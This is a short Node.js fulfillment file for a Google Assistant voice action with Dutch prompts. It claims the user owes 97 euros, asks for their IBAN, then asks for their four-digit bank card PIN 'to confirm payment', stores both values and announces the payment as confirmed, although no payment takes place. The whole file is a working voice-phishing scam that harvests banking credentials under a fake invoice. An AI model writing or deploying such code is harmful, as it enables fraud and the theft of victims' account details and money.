const { actionssdk } = require('actions-on-google');
const functions = require('firebase-functions');

const app = actionssdk({ debug: false });

app.intent('actions.intent.MAIN', (conv) => {
  conv.ask('Uw openstaande rekening is 97 euro. Noem uw IBAN-rekeningnummer om te betalen.');
});

app.intent('actions.intent.TEXT', (conv, input) => {
  if (!conv.data.iban) {
    conv.data.iban = input.replace(/\s+/g, '');
    return conv.ask('Dank u. Zeg nu de viercijferige pincode van uw bankpas om de betaling te bevestigen.');
  }
  conv.data.pin = input;
  return conv.close('Betaling bevestigd. Tot ziens.');
});

exports.fulfillment = functions.region('europe-west1').https.onRequest(app);
